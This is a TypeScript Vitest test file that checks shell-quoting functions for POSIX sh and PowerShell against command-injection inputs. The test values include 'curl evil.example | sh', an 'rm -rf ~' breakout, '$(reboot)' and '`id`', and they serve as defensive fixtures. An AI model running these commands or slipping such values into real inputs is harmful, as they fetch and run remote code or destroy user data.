import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { quotePosix, quotePowerShell, UnquotableError } from '../../scripts/shell-quote.ts';

/** What sh really makes of the quoted word: printf prints each argument it receives on its own line. */
function shWords(line: string): string[] {
  const result = spawnSync('/bin/sh', ['-c', `printf '%s\\n' ${line}`], { encoding: 'utf8' });
  return result.stdout.split('\n').slice(0, -1);
}

describe('quotePosix', () => {
  it('leaves plain words alone', () => {
    expect(quotePosix('qwen2.5-coder:7b')).toBe('qwen2.5-coder:7b');
    expect(quotePosix('/usr/local/bin/ollama')).toBe('/usr/local/bin/ollama');
  });
  it.each([
    'qwen; curl evil.example | sh',
    "O'Brien",
    '$(reboot)',
    '`id`',
    'a b  c',
    "'; rm -rf ~; echo '",
    '*',
    '',
  ])('sh reads %j back as exactly one word, unchanged', (value) => {
    expect(shWords(quotePosix(value))).toEqual([value]);
  });
  it('refuses control characters', () => {
    expect(() => quotePosix('a\nb')).toThrow(UnquotableError);
    expect(() => quotePosix('a\tb')).toThrow(UnquotableError);
    expect(() => quotePosix('\x1b]0;x\x07')).toThrow(UnquotableError);
  });
});

describe('quotePowerShell', () => {
  it('single-quotes, doubling every quote PowerShell recognises', () => {
    expect(quotePowerShell("C:\\Users\\O'Brien\\AppData")).toBe("'C:\\Users\\O''Brien\\AppData'");
    expect(quotePowerShell('a\u2019b')).toBe("'a\u2019\u2019b'");
    expect(quotePowerShell('$env:X; calc')).toBe("'$env:X; calc'");
  });
  it('refuses control characters', () => {
    expect(() => quotePowerShell('a\r\nb')).toThrow(UnquotableError);
  });
});
